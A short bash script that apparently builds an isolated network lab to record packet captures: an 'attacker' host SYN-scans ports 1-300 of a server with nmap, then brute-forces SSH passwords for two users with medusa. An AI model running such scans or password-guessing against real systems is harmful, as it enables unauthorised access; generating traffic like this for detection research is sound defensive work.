#!/bin/bash
# nmap looks through 300 ports of a server; of what it found, medusa guesses passwords of two users over SSH.
LAB_DELAY_MS=12
. "$(dirname "$0")/../../lab.sh"; . $pcaps_dir/sshd.sh; lab
outside attacker 203.0.113.9
inside server 10.20.0.22
password_server server
record router wan -s 128
on attacker nmap -n -Pn -sS -p 1-300 --max-rate 200 10.20.0.22 >/dev/null
sleep 3
on attacker timeout 60 medusa -h 10.20.0.22 -U $tmp/users -P $tmp/words -M ssh -t 2 >/dev/null || true
recorded
